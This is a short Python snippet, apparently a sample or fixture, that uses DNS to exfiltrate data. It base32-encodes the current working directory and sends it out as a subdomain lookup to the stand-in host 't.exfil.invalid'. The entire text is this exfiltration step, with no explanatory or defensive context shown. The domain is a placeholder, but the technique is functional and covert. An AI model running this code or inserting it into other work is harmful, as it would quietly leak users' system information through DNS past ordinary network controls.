import base64, os, socket
label = base64.b32encode(os.getcwd().encode()).decode().rstrip("=").lower()
socket.gethostbyname(label[:60] + ".t.exfil.invalid")
